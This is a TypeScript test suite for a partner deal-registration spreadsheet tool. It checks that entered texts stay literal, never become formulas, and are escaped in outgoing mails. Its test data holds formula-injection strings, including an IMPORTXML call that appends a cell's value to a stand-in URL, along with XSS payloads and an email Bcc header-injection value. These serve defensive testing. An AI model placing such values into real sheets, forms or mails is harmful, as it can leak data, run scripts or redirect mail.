/** Texts that would be formulas, markup or headers elsewhere (S22): they stay the texts that somebody wrote. */
import { aDesk, columnOf, cory, deal, lee, reply, rowOf, type World } from "./desk";
import { send, whole, withForm } from "./form";

const texts = [
  "=1+1",
  '=IMPORTXML("http://x/?"&A1,"//a")',
  '=HYPERLINK("http://x","y")',
  "+44 20 7946 0958",
  "-5 Elm Ltd",
  "@SUM(A1)",
  "'=2+2",
  "<img src=x onerror=alert(1)>",
  "Acme & <b>Sons</b> [AE Name]",
  "Acme\r\nBcc: x@y.z",
  "12-3",
  "TRUE",
];

/** No cell of any tab of ours is a formula. */
const expectNoFormula = (world: World) => {
  for (const sheet of world.book.engine.workbook.getSheets()) {
    const cells = sheet.getCellMatrix();
    cells.forValue((row, column, cell) => {
      if (cell?.f || cell?.si) throw new Error(`${sheet.getName()} has a formula in row ${row}, column ${column}.`);
    });
  }
};

test("register keeps every text literally, in the sheet, in replies and in the history", async () => {
  const world = await aDesk();
  for (const [at, companyName] of texts.entries()) {
    const told = deal({ token: `t${at}`, companyName, contactName: companyName, industry: companyName });
    await reply(world, "register", told);
  }
  expect(columnOf(world, "registrations", "companyName")).toEqual(texts);
  expect((await world.rows("registrations")).map(({ industry }) => industry)).toEqual(texts);
  expectNoFormula(world);
  expect((await reply(world, "queue", {})).items.map((item) => item.companyName)).toEqual(texts);
});

test("mails escape markup in HTML, and a subject stays one line", async () => {
  const world = await aDesk();
  for (const [at, companyName] of ["<img src=x onerror=alert(1)>", "Acme\r\nBcc: x@y.z", "[AE Name]"].entries()) {
    const { id } = await reply(world, "register", deal({ token: `t${at}`, companyName }));
    await reply(world, "decide", { id, verdict: "approve", note: "<script>alert(1)</script>" });
  }
  const [markup, , header, , bracket, approved] = world.mails;
  expect(markup?.html).toMatch(/&(lt|#60);img src=x/);
  expect(header?.subject).toBe("Deal Registration Received — Acme Bcc: x@y.z | Contoso Cloud");
  expect(bracket?.subject).toBe("Deal Registration Received — [AE Name] | Contoso Cloud");
  expect(approved?.text).toContain("Account: [AE Name]");
  for (const { subject, html, to, cc, bcc } of world.mails) {
    expect(subject).not.toMatch(/[\r\n]/);
    expect(html).not.toMatch(/<img|<script/i);
    expect([to, cc, bcc]).toEqual(["pat@contoso.example", "ann@example.com", ""]);
  }
});

test("importRows keeps every text literally, in every tab", async () => {
  const world = await aDesk();
  const quoted = (text: string) => `"${text.replace(/"/g, '""')}"`;
  const csv = [
    "Deal ID,Partner,Company,Next step",
    ...texts.map((text, at) => `H-${at},Contoso Cloud,${quoted(text)},${quoted(text)}`),
  ];
  expect(await reply(world, "importRows", { table: "registrations", csv: csv.join("\n") })).toMatchObject({
    added: texts.length,
    refused: [],
  });
  expect((await world.rows("registrations")).map(({ companyName }) => companyName)).toEqual(texts);
  const accounts = ["Account,Owner", ...texts.map((text) => `${quoted(text)},${quoted(text)}`)].join("\n");
  expect(await reply(world, "importRows", { table: "accounts", csv: accounts })).toMatchObject({ refused: [] });
  expect((await world.rows("accounts")).map(({ name }) => name)).toEqual(texts);
  expectNoFormula(world);
});

test("a row that was typed with such texts is taken in as it stands", async () => {
  const world = await aDesk();
  const told = {
    partner: "Contoso Cloud",
    partnerRole: "'=1+1",
    companyName: "'=HYPERLINK(A1)",
    dealSize: "50",
    closeQuarter: "Q3 2026",
    contactName: "'+44 20 7946 0958",
    contactTitle: "'-5",
    contactEmail: "bill@initech.example",
    companySize: "'@SUM(A1)",
    industry: "<b>Steel</b>",
    existingRelationship: "No",
    partnershipType: "Referral",
    buyingSignal: "RFP",
  };
  await world.paste("registrations", `${Object.keys(told).join(",")}\n${Object.values(told).join(",")}`);
  expect(await rowOf(world, "registrations", "DR-0001")).toMatchObject({
    companyName: "=HYPERLINK(A1)",
    partnerRole: "=1+1",
    contactName: "+44 20 7946 0958",
    companySize: "@SUM(A1)",
  });
  expectNoFormula(world);
  expect(world.mails[0]?.text).toContain("Hi =1+1,");
  expect(world.mails[0]?.html).not.toContain("<b>Steel</b>");
});

/** What a person types so that the grid takes it as text. */
const asText = (text: string) => `"'${text.replace(/\s+/g, " ").replace(/"/g, '""')}"`;
const oneLine = texts.map((text) => text.replace(/\s+/g, " "));

const typedWith = (text: string, at: number, industry = text): string =>
  [
    "Contoso Cloud",
    "Pat Moss",
    asText(text),
    50,
    "Q3 2026",
    "Bill Lumbergh",
    "VP",
    `bill@company${at}.example`,
    "200-500",
    industry && asText(industry),
    "No",
    "Referral",
    "RFP",
  ].join(",");
const typedTitles =
  "partner,partnerRole,companyName,dealSize,closeQuarter,contactName,contactTitle,contactEmail,companySize,industry,existingRelationship,partnershipType,buyingSignal";

/** Every subject is one line to the partner alone, and no markup of theirs is in a mail. */
const expectPlainMails = ({ mails }: World) => {
  for (const { subject, html, to, cc, bcc } of mails) {
    expect(subject).not.toMatch(/[\r\n]/);
    expect(html).not.toMatch(/<img|<script|<b>Sons/i);
    expect([to, cc, bcc]).toEqual(["pat@contoso.example", "ann@example.com", ""]);
  }
};

test.each(["new", "history"] as const)("many typed rows that come in by a word (%s) stay literal", async (as) => {
  const world = await aDesk();
  await world.paste("registrations", [typedTitles, ...texts.map((text, at) => typedWith(text, at))].join("\n"));
  expect(await reply(world, "crowd", { as }, { as: cory })).toEqual({ taken: texts.length, refused: [] });
  expect(columnOf(world, "registrations", "companyName")).toEqual(oneLine);
  expect(columnOf(world, "registrations", "industry")).toEqual(oneLine);
  expect(world.mails).toHaveLength(as === "new" ? texts.length : 0);
  expectNoFormula(world);
  expectPlainMails(world);
});

test("rows that are taken in half, or refused, stay literal, and so do the mails and reasons about them", async () => {
  const world = await aDesk();
  const rows = texts.slice(0, 4).map((text, at) => typedWith(text, at, ""));
  const refused = typedWith("Globex", 9).replace("Contoso Cloud", asText("=Nobody(<b>Sons</b>)"));
  await world.paste("registrations", [typedTitles, ...rows, refused].join("\n"));
  await world.fire("hourly", { now: "2026-03-20T15:30:00-04:00" });
  expect(columnOf(world, "registrations", "stage")).toEqual(rows.map(() => "Info requested"));
  expect(columnOf(world, "registrations", "flags").at(-1)).toContain('"=Nobody(<b>Sons</b>)"');
  expect(world.mails.map(({ subject }) => subject)).toEqual(
    oneLine.slice(0, 4).map((text) => `Deal Registration — Details Needed — ${text}`),
  );
  expectNoFormula(world);
  expectPlainMails(world);
});

test("responses of a form stay literal, whether they come in, are asked about or are refused", async () => {
  const world = await withForm();
  const responses = texts.flatMap((text, at) => [
    { ...whole, Timestamp: 46_101.6 + at / 1000, "Company name": text, Industry: text },
    { ...whole, Timestamp: 46_101.6 + at / 1000, "Company name": `${text} II`, "Company size": text, Industry: "" },
  ]);
  const own = (at: number) => ({ "Primary contact email": `hank@company${at}.example`, "Partner role": "Pat Moss" });
  await send(world, ...responses.map((said, at) => ({ ...said, ...own(at) })));
  await send(world, { ...whole, Timestamp: 46_101.7, Partner: "=Nobody()" });
  await world.fire("hourly");
  expect(columnOf(world, "registrations", "companyName")).toEqual(texts.flatMap((text) => [text, `${text} II`]));
  expect(columnOf(world, "registrations", "industry")).toEqual(texts);
  expect(world.mails).toHaveLength(2 * texts.length);
  const { problems } = await reply(world, "problems", {});
  expect(problems.map(({ text }) => text).join()).toContain('There is no partner called "=Nobody()".');
  expectNoFormula(world);
  expectPlainMails(world);
});

test("names, notes and reasons of our own people too", async () => {
  const world = await aDesk();
  await reply(world, "importRows", { table: "team", csv: `E-mail,Name,Phone\n${lee},"=Lee <Quinn>",+1 555 0101` });
  await reply(world, "register", deal({ note: "=NOW()" }));
  await reply(world, "decide", { id: "DR-0001", verdict: "request-info", note: "=IMPORTDATA(1)" });
  await reply(world, "answer", { id: "DR-0001", fields: { industry: "=1" }, note: "+1" });
  await reply(world, "decide", { id: "DR-0001", verdict: "approve" });
  await reply(world, "decide", { id: "DR-0001", verdict: "cancel", reason: "-1 <i>x</i>" });
  expectNoFormula(world);
  expect(await rowOf(world, "registrations", "DR-0001")).toMatchObject({ industry: "=1", endReason: "-1 <i>x</i>" });
  expect(world.mails.at(-1)?.text).toContain("=Lee <Quinn> — lee@example.com — +1 555 0101");
  expect(world.mails.at(-1)?.html).toMatch(/=Lee &(lt|#60);Quinn/);
});
